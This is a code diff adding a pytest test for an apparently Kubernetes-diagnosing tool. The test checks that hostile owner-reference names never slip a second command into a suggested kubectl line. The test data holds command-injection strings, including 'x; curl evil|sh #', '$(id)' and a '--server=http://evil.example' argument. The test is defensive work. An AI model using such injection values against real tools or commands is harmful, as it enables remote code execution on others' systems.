@@ -209,6 +209,18 @@ async def test_of_an_operators_deployment_a_person_is_shown_the_operators_object
     assert judgement.by_hand == "kubectl -n demo describe cache main"
 
 
+@pytest.mark.parametrize("hostile", ["x; curl evil|sh #", "$(id)", "a`id`", "--server=http://evil.example", "a b"])
+async def test_an_owner_reference_brings_no_second_command_into_the_one_to_copy(hostile):
+    """The API server checks neither its kind nor its name, and whoever may create a pod writes it."""
+    above = {"apiVersion": "example.com/v1", "kind": hostile, "metadata": {"name": hostile, "uid": "uid-c"}}
+    missing = {"apiVersion": "apps/v1", "kind": "StatefulSet", "metadata": {"name": hostile, "uid": "uid-s"}}
+    of_an_operator = only(await assess(TOOL, world(owner=owned_by(above))))
+    assert of_an_operator.by_hand == "kubectl -n demo describe NAME NAME"
+    of_nobody = only(await assess(TOOL, [pod(owner=missing, statuses=KILLED), node()]))
+    assert of_nobody.by_hand == "kubectl -n demo set resources statefulset/NAME -c app --limits=memory=512Mi"
+    assert hostile in of_nobody.reason
+
+
 async def test_a_workload_without_a_pod_has_nothing_to_look_at():
     owner = deployment()
     found = await assess(TOOL, [owner, replica_set(owner)], deployment="app")
